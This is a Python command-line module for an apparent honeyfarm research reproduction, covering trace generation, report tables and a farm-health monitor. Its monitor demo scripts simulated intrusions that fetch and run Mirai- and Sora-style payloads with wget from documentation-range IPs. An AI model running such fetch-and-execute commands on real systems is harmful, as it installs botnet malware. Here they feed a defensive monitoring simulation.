"""Command-line interface: ``python -m repro <command>``.

Commands:

* ``generate`` — generate a scaled trace and save it (npz or jsonl);
* ``report``   — generate (or load) a trace and print the paper-vs-measured
  summary;
* ``tables``   — print Tables 1-6 for a generated trace.
"""

from __future__ import annotations

import argparse
import sys


def _scale(value: str) -> float:
    """Parse ``--scale``: canonically a denominator ("4000").

    The fraction spellings left over from the first CLI ("1/4000",
    "0.00025") still parse — both spellings of the same scale produce the
    same config — but are deprecated aliases: the canonical flag is the
    downscale denominator vs the paper's 402 M sessions, and the alias
    prints a note pointing at it.
    """
    try:
        if "/" in value:
            num, _, den = value.partition("/")
            parsed = float(num) / float(den)
        else:
            parsed = float(value)
    except ZeroDivisionError:
        raise argparse.ArgumentTypeError("--scale denominator must be nonzero")
    if parsed <= 0:
        raise argparse.ArgumentTypeError("--scale must be positive")
    if "/" in value or parsed < 1:
        denominator = 1.0 / parsed
        spelled = (f"{denominator:g}" if denominator == int(denominator)
                   else f"{denominator!r}")
        print(f"note: fractional --scale {value!r} is deprecated; "
              f"pass the denominator (--scale {spelled})", file=sys.stderr)
    return parsed


def _add_scenario_args(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--scale", type=_scale, default=4000.0,
                        help="downscale denominator vs the paper's 402M "
                             "sessions (e.g. 4000), or the fraction itself "
                             "(0.00025 or 1/4000); default 4000")
    parser.add_argument("--seed", type=int, default=2023)
    parser.add_argument("--hash-scale", type=float, default=None,
                        help="unique-hash budget vs the paper's 64k "
                             "(default: derived from --scale)")
    parser.add_argument("--workers", type=int, default=None,
                        help="generate with N worker processes (sharded "
                             "mode; output is identical for every N). "
                             "Default: $REPRO_WORKERS if set, else the "
                             "single-pass serial generator")
    parser.add_argument("--backend", default=None,
                        choices=("serial", "inline", "pool"),
                        help="execution backend for generation (see "
                             "repro.sched; sharded backends are "
                             "byte-identical). Default: derived from "
                             "--workers — serial without workers, inline "
                             "for 1, pool otherwise")
    parser.add_argument("--metrics", nargs="?", const="-", default=None,
                        metavar="PATH",
                        help="after the command, print the pipeline stage "
                             "timings and counters to stderr; with PATH, "
                             "also dump the registry as JSON there")
    parser.add_argument("--cache-dir", default=None, metavar="DIR",
                        help="cache generated datasets under DIR, keyed by "
                             "a fingerprint of the scenario config; a rerun "
                             "with the same config loads instead of "
                             "regenerating (default: $REPRO_CACHE if set)")
    parser.add_argument("--ledger", nargs="?", const="run_ledger.jsonl",
                        default=None, metavar="PATH",
                        help="write the run manifest (config fingerprint, "
                             "environment snapshot, per-task telemetry, "
                             "alerts, artifact digests, final store sha256) "
                             "as JSON lines to PATH after the command; bare "
                             "--ledger uses run_ledger.jsonl (REPRO_LEDGER "
                             "env does the same)")
    _add_trace_args(parser)


def _add_trace_args(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--trace", nargs="?", const="-", default=None,
                        metavar="PATH",
                        help="record the flight-recorder event stream; bare "
                             "--trace renders the span timeline to stderr, "
                             "with PATH the events also stream there as "
                             "JSONL (REPRO_TRACE env does the same)")
    parser.add_argument("--trace-chrome", default=None, metavar="PATH",
                        help="with tracing on, also write the Chrome "
                             "trace_event JSON for about://tracing")


def _add_load_arg(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--load", default=None, metavar="PATH",
                        help="analyse an existing trace instead of "
                             "generating: a dataset directory written by "
                             "save_dataset, or a bare .npz / .jsonl[.gz] "
                             "trace (deployment is rebuilt from --seed, "
                             "intel starts empty)")


def _config(args):
    from repro.workload import ScenarioConfig

    denominator = args.scale if args.scale > 1 else 1.0 / args.scale
    extra = {}
    if args.hash_scale is not None:
        extra["hash_scale"] = args.hash_scale
    return ScenarioConfig.from_denominator(
        denominator, seed=args.seed, **extra
    )


def _run_options(args):
    """The :class:`repro.api.RunOptions` for a scenario subcommand.

    Without ``--backend`` and without a worker count the CLI runs the
    serial single-pass generator; with a worker count the backend is left
    to :class:`~repro.api.RunOptions` (inline for one worker, the pool
    for more).  ``--workers`` falls back to ``$REPRO_WORKERS`` (the same
    contract the benchmarks honour).
    """
    import os

    from repro.api import RunOptions, WORKERS_ENV_VAR
    from repro.workload.cache import resolve_cache_dir

    workers = getattr(args, "workers", None)
    if workers is None:
        raw = os.environ.get(WORKERS_ENV_VAR, "").strip()
        workers = int(raw) if raw else None
    backend = getattr(args, "backend", None)
    if backend is None and workers is None:
        backend = "serial"
    return RunOptions(
        backend=backend,
        workers=workers,
        cache=resolve_cache_dir(getattr(args, "cache_dir", None)),
    )


def _dataset(args):
    """The dataset a report-style command should analyse.

    ``--load`` wins (no generation at all); otherwise generate through the
    :mod:`repro.api` façade, consulting the fingerprint cache when
    ``--cache-dir`` or ``$REPRO_CACHE`` names one.
    """
    config = _config(args)
    load_path = getattr(args, "load", None)
    if load_path:
        from repro.api import load

        try:
            return load(load_path, config)
        except ValueError as exc:
            raise SystemExit(f"--load: {exc}")

    from repro.api import generate

    return generate(config, options=_run_options(args))


def cmd_generate(args) -> int:
    from repro.api import generate
    from repro.obs import get_ledger, sha256_file
    from repro.store.io import write_jsonl
    from repro.store.npz import save_npz

    config = _config(args)
    print(f"generating {config.total_sessions:,} sessions "
          f"(seed {config.seed}) ...", file=sys.stderr)
    dataset = generate(config, options=_run_options(args))
    if args.out.endswith((".jsonl", ".jsonl.gz")):
        count = write_jsonl(iter(dataset.store), args.out)
        print(f"wrote {count:,} records to {args.out}")
    else:
        save_npz(dataset.store, args.out)
        print(f"wrote {len(dataset.store):,} sessions to {args.out}")
    ledger = get_ledger()
    if ledger is not None:
        ledger.record_artifact("store", args.out, sha256_file(args.out))
    return 0


def cmd_report(args) -> int:
    from repro.core.report import print_summary

    dataset = _dataset(args)
    print(print_summary(dataset))
    if getattr(args, "streaming", False):
        from repro.analytics import StreamingAnalytics

        analytics = StreamingAnalytics()
        analytics.ingest_store(dataset.store)
        analytics.export_gauges()
        print("\n-- streaming analytics (sketch answers vs the batch "
              "numbers above) --")
        print(analytics.render_panels())
    return 0


def cmd_tables(args) -> int:
    from repro.core.tables import (
        format_table,
        table1_categories,
        table2_passwords,
        table3_commands,
        tables_4_5_6,
    )

    dataset = _dataset(args)
    store = dataset.store
    labels = {c.primary_hash: c.campaign_id for c in dataset.campaigns
              if c.primary_hash}

    t1 = table1_categories(store)
    print("Table 1 — session categories")
    print(format_table(
        [(cat, f"{share:.2%}", f"{t1.ssh_share_of_category[cat]:.2%}")
         for cat, share in t1.overall.items()],
        ["category", "share", "ssh share"]))
    print("\nTable 2 — top successful passwords")
    print(format_table(table2_passwords(store), ["password", "logins"]))
    print("\nTable 3 — top commands")
    print(format_table(table3_commands(store, 15), ["command", "sessions"]))
    hash_tables = tables_4_5_6(store, dataset.intel, labels)
    for rows, title in ((hash_tables.by_sessions,
                         "Table 4 — top hashes by sessions"),
                        (hash_tables.by_clients,
                         "Table 5 — top hashes by client IPs"),
                        (hash_tables.by_days,
                         "Table 6 — top hashes by active days")):
        print(f"\n{title}")
        print(format_table(
            [(r.hash_label, r.n_sessions, r.n_clients, r.n_days, r.tag,
              r.n_honeypots) for r in rows],
            ["hash", "sessions", "clients", "days", "tag", "pots"]))
    return 0


def cmd_validate(args) -> int:
    from repro.workload.validation import validate

    dataset = _dataset(args)
    report = validate(dataset)
    print(report.render())
    if report.passed:
        print("calibration: PASSED")
        return 0
    print(f"calibration: FAILED ({len(report.failures)} hard checks)")
    return 1


def _emit_metrics(flag) -> None:
    """Report the run's metrics registry when asked to.

    ``--metrics`` (bare) prints the stage-timing tree and counters to
    stderr; ``--metrics PATH`` additionally dumps the registry JSON to
    ``PATH``.  Without the flag the ``REPRO_METRICS`` environment
    variable is consulted: ``1``/``-``/``stderr`` mean stderr-only,
    anything else is treated as a JSON path.  Collection is always on
    (it is just dict increments); this only controls reporting.
    """
    import os

    target = flag if flag is not None else os.environ.get("REPRO_METRICS")
    if not target:
        return
    from repro.obs import dump_json, get_metrics, render

    metrics = get_metrics()
    print(render(metrics), file=sys.stderr)
    if target not in ("-", "1", "stderr"):
        dump_json(metrics, target)
        print(f"metrics json written to {target}", file=sys.stderr)


def cmd_monitor(args) -> int:
    """Live farm-health monitor: demo scenario, or tail a JSONL trace."""
    from repro.analytics import StreamingAnalytics
    from repro.farm.health import FarmHealthMonitor, HealthConfig

    monitor = FarmHealthMonitor(HealthConfig(
        liveness_timeout=args.liveness_timeout,
        interval=args.interval,
        z_threshold=args.z_threshold,
    ))
    analytics = StreamingAnalytics()
    if args.input:
        status = _monitor_tail(args, monitor, analytics)
    else:
        status = _monitor_demo(args, monitor, analytics)
    if args.prometheus:
        from repro.obs import get_metrics, render_prometheus

        with open(args.prometheus, "w", encoding="utf-8") as fh:
            fh.write(render_prometheus(get_metrics()))
        print(f"prometheus metrics written to {args.prometheus}",
              file=sys.stderr)
    return status


def _monitor_report(monitor, analytics=None) -> None:
    print(monitor.render_table())
    if analytics is not None and analytics.events_seen:
        analytics.export_gauges()
        print("\n-- streaming analytics (live uniques / top-k) --")
        print(analytics.render_panels())
    if monitor.notices:
        print("\n-- fresh-hash notifications --")
        for notice in monitor.notices:
            print(notice.render())
            print()


def _monitor_tail(args, monitor, analytics=None) -> int:
    """Consume a flight-recorder JSONL stream (optionally following it)."""
    import json
    import time

    from repro.obs.trace import validate_trace

    events = []
    consumed = 0
    bad_lines = 0
    with open(args.input, "r", encoding="utf-8") as fh:
        idle = 0.0
        while True:
            line = fh.readline()
            if not line:
                if not args.follow or idle >= args.idle_exit:
                    break
                time.sleep(0.2)
                idle += 0.2
                continue
            idle = 0.0
            line = line.strip()
            if not line:
                continue
            try:
                event = json.loads(line)
            except ValueError:
                bad_lines += 1
                continue
            monitor.feed(event)
            if analytics is not None:
                analytics.feed(event)
            consumed += 1
            if args.validate:
                events.append(event)
    _monitor_report(monitor, analytics)
    if bad_lines:
        print(f"warning: {bad_lines} unparseable lines skipped",
              file=sys.stderr)
    if args.validate:
        problems = validate_trace(events)
        if problems:
            print(f"trace INVALID: {len(problems)} problems",
                  file=sys.stderr)
            for problem in problems[:20]:
                print(f"  {problem}", file=sys.stderr)
            return 1
        print(f"trace valid: {consumed} events", file=sys.stderr)
    return 0


def _monitor_demo(args, monitor, analytics=None) -> int:
    """A small live-farm scenario exercising every alert path.

    Deterministic in ``--seed``: round-robin scans (half the pots go silent
    mid-run — the liveness demonstration), periodic scouting probes, two
    intrusions whose ``wget`` drops never-before-seen payloads (the
    fresh-hash notification path), and a session burst near the end (the
    rate-drift demonstration).
    """
    from repro.farm.live import (
        IntrusionBehavior,
        LiveFarm,
        ScanBehavior,
        ScoutBehavior,
    )

    def tap(event):
        monitor.on_event(event)
        if analytics is not None:
            analytics.on_event(event)

    farm = LiveFarm(seed=args.seed, n_honeypots=args.pots, event_tap=tap)
    pots = len(farm.honeypots)
    monitor.watch(h.honeypot_id for h in farm.honeypots)
    duration = args.duration
    busy = max(1, min(3, pots))  # pots that stay active all run

    when, i = 5.0, 0
    while when < duration:
        index = i % pots if when < duration / 2 else i % busy
        farm.launch(0x0A000000 + (i * 7919) % 65521, index,
                    ScanBehavior(), at=when)
        i += 1
        when += 20.0
    when, j = 45.0, 0
    while when < duration:
        farm.launch(0x0B000000 + (j * 104729) % 65521, j % busy,
                    ScoutBehavior(), at=when)
        j += 1
        when += 150.0
    farm.launch(0x0C000001, 0, IntrusionBehavior(lines=(
        "wget http://203.0.113.9/bins/mirai.arm7",
        "chmod +x mirai.arm7",
        "./mirai.arm7",
    )), at=duration * 0.25)
    farm.launch(0x0C000002, 1 % pots, IntrusionBehavior(lines=(
        "wget http://198.51.100.7/payload/sora.sh",
        "sh sora.sh",
    )), at=duration * 0.6)
    burst0 = duration * 0.85
    for k in range(40):
        farm.launch(0x0D000000 + k, k % busy, ScanBehavior(),
                    at=burst0 + float(k))

    farm.run()
    farm.harvest(duration + 600.0)
    monitor.advance(duration)
    _monitor_report(monitor, analytics)
    return 0


def cmd_top(args) -> int:
    """Scheduler dashboard: replay/tail a trace, or run a demo generate."""
    import os

    from repro.sched.dashboard import TopDashboard

    dash = TopDashboard()
    try:
        if args.input:
            return _top_tail(args, dash)
        return _top_demo(args, dash)
    except BrokenPipeError:
        # Downstream reader (head, grep -q) closed the pipe mid-frame;
        # park stdout on devnull so the interpreter's exit flush is quiet.
        os.dup2(os.open(os.devnull, os.O_WRONLY), sys.stdout.fileno())
        return 0


def _top_tail(args, dash) -> int:
    """Feed a flight-recorder JSONL stream into the dashboard.

    ``--once`` reads what is there and renders one frame (the CI mode);
    ``--follow`` keeps tailing, repainting every ``--interval`` seconds
    until the stream goes idle for ``--idle-exit`` seconds.
    """
    import json
    import time

    bad_lines = 0
    last_render = time.monotonic()
    with open(args.input, "r", encoding="utf-8") as fh:
        idle = 0.0
        while True:
            line = fh.readline()
            if not line:
                if args.once or not args.follow or idle >= args.idle_exit:
                    break
                time.sleep(0.2)
                idle += 0.2
            else:
                idle = 0.0
                line = line.strip()
                if line:
                    try:
                        dash.feed(json.loads(line))
                    except ValueError:
                        bad_lines += 1
            if args.follow and not args.once and \
                    time.monotonic() - last_render >= args.interval:
                _top_frame(dash)
                last_render = time.monotonic()
    _top_frame(dash, final=True)
    if bad_lines:
        print(f"warning: {bad_lines} unparseable lines skipped",
              file=sys.stderr)
    return 0


def _top_frame(dash, final: bool = False) -> None:
    if not final and sys.stdout.isatty():
        print("\x1b[2J\x1b[H", end="")
    print(dash.render())
    if not final:
        print(flush=True)


def _top_demo(args, dash) -> int:
    """A small pool-backed scheduled generate, rendered as a final frame."""
    from repro.obs.trace import Tracer, use_tracer
    from repro.sched.scheduler import generate_scheduled
    from repro.workload.config import ScenarioConfig

    config = ScenarioConfig(scale=1 / 80000, seed=args.seed,
                            hash_scale=0.004)
    print(f"demo: scheduled generate, pool x{args.workers} "
          f"({config.total_sessions:,} sessions) ...", file=sys.stderr)
    tracer = Tracer()
    with use_tracer(tracer):
        generate_scheduled(config, backend="pool", workers=args.workers)
    dash.feed_all(tracer.to_list())
    print(dash.render())
    return 0


def _run_traced(args, target: str) -> int:
    """Run the command under a flight recorder, then report the trace."""
    from repro.obs import dump_chrome_trace, render_timeline
    from repro.obs.trace import Tracer, use_tracer

    to_file = target not in ("-", "1", "stderr")
    sink = open(target, "w", encoding="utf-8") if to_file else None
    tracer = Tracer(sink=sink)
    try:
        with use_tracer(tracer):
            status = args.func(args)
    finally:
        if sink is not None:
            sink.close()
    events = tracer.to_list()
    print(render_timeline(events), file=sys.stderr)
    note = f"trace: {tracer.emitted} events"
    if tracer.dropped:
        note += f" ({tracer.dropped} dropped from the ring buffer)"
    if to_file:
        note += f", jsonl streamed to {target}"
    print(note, file=sys.stderr)
    chrome = getattr(args, "trace_chrome", None)
    if chrome:
        dump_chrome_trace(events, chrome)
        print(f"chrome trace written to {chrome}", file=sys.stderr)
    return status


def _run_ledgered(args, target: str, runner) -> int:
    """Run the command with the run ledger armed, then write the manifest.

    The CLI pins the run ``kind`` (the subcommand name) up front;
    :func:`repro.api.generate` enriches the same record with the config
    fingerprint and backend once it resolves them.  The manifest is
    written even when the command fails — a failed run's ledger is the
    artefact you want most.
    """
    from repro.obs import RunLedger, get_metrics, use_ledger

    ledger = RunLedger()
    ledger.begin_run(args.command)
    status = 1
    try:
        with use_ledger(ledger):
            status = runner()
    finally:
        ledger.record_stages(get_metrics())
        ledger.finish("ok" if status == 0 else f"exit-{status}")
        count = ledger.write_jsonl(target)
        print(f"run ledger: {count} records written to {target}",
              file=sys.stderr)
    return status


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(
        prog="repro",
        description="Honeyfarm reproduction (IMC'23) command-line interface",
    )
    sub = parser.add_subparsers(dest="command", required=True)

    p_generate = sub.add_parser("generate", help="generate and save a trace")
    _add_scenario_args(p_generate)
    p_generate.add_argument("--out", default="trace.npz",
                            help=".npz (fast) or .jsonl/.jsonl.gz output")
    p_generate.set_defaults(func=cmd_generate)

    p_report = sub.add_parser("report", help="print paper-vs-measured summary")
    _add_scenario_args(p_report)
    _add_load_arg(p_report)
    p_report.add_argument("--streaming", action="store_true",
                          help="also replay the trace through the streaming "
                               "sketch analytics (repro.analytics) and print "
                               "its uniques / mix / top-k panels")
    p_report.set_defaults(func=cmd_report)

    p_tables = sub.add_parser("tables", help="print Tables 1-6")
    _add_scenario_args(p_tables)
    _add_load_arg(p_tables)
    p_tables.set_defaults(func=cmd_tables)

    p_validate = sub.add_parser(
        "validate", help="check calibration against the paper's targets")
    _add_scenario_args(p_validate)
    _add_load_arg(p_validate)
    p_validate.set_defaults(func=cmd_validate)

    p_lint = sub.add_parser(
        "lint", help="determinism & invariant linter (static analysis; "
                     "see DESIGN 6e)")
    from repro.lint.cli import add_lint_arguments, cmd_lint

    add_lint_arguments(p_lint)
    p_lint.set_defaults(func=cmd_lint)

    p_monitor = sub.add_parser(
        "monitor", help="live farm-health monitor (demo scenario, or tail "
                        "a --trace JSONL stream)")
    p_monitor.add_argument("--input", default=None, metavar="PATH",
                           help="consume a flight-recorder JSONL trace "
                                "instead of running the demo scenario")
    p_monitor.add_argument("--follow", action="store_true",
                           help="with --input, keep tailing for new lines")
    p_monitor.add_argument("--idle-exit", type=float, default=10.0,
                           help="with --follow, stop after this many "
                                "seconds without new lines")
    p_monitor.add_argument("--validate", action="store_true",
                           help="schema-validate the consumed events; "
                                "exit 1 on problems")
    p_monitor.add_argument("--seed", type=int, default=7)
    p_monitor.add_argument("--duration", type=float, default=3600.0,
                           help="demo scenario length in simulated seconds")
    p_monitor.add_argument("--pots", type=int, default=8,
                           help="honeypots in the demo farm")
    p_monitor.add_argument("--interval", type=float, default=60.0,
                           help="drift-statistics interval (sim seconds)")
    p_monitor.add_argument("--liveness-timeout", type=float, default=900.0)
    p_monitor.add_argument("--z-threshold", type=float, default=3.0)
    p_monitor.add_argument("--prometheus", default=None, metavar="PATH",
                           help="write the metrics registry in Prometheus "
                                "text format after the run")
    _add_trace_args(p_monitor)
    p_monitor.set_defaults(func=cmd_monitor)

    p_top = sub.add_parser(
        "top", help="live scheduler dashboard: per-worker heartbeat rows, "
                    "task progress and recent alerts from a --trace JSONL "
                    "stream (or a built-in demo generate)")
    p_top.add_argument("--input", default=None, metavar="PATH",
                       help="flight-recorder JSONL stream to render "
                            "(e.g. the --trace file of a running generate)")
    p_top.add_argument("--once", action="store_true",
                       help="with --input, read what is there, render one "
                            "frame and exit (the CI mode)")
    p_top.add_argument("--follow", action="store_true",
                       help="with --input, keep tailing for new lines")
    p_top.add_argument("--idle-exit", type=float, default=10.0,
                       help="with --follow, stop after this many seconds "
                            "without new lines")
    p_top.add_argument("--interval", type=float, default=2.0,
                       help="with --follow, seconds between repaints")
    p_top.add_argument("--seed", type=int, default=7,
                       help="demo-mode scenario seed")
    p_top.add_argument("--workers", type=int, default=2,
                       help="demo-mode pool worker count")
    p_top.set_defaults(func=cmd_top)

    args = parser.parse_args(argv)
    import os

    trace_flag = getattr(args, "trace", None)
    trace_target = (trace_flag if trace_flag is not None
                    else os.environ.get("REPRO_TRACE"))
    if trace_target:
        runner = lambda: _run_traced(args, trace_target)  # noqa: E731
    else:
        runner = lambda: args.func(args)  # noqa: E731
    ledger_flag = getattr(args, "ledger", None)
    ledger_target = (ledger_flag if ledger_flag is not None
                     else os.environ.get("REPRO_LEDGER"))
    if ledger_target:
        status = _run_ledgered(args, ledger_target, runner)
    else:
        status = runner()
    _emit_metrics(getattr(args, "metrics", None))
    return status


if __name__ == "__main__":
    raise SystemExit(main())
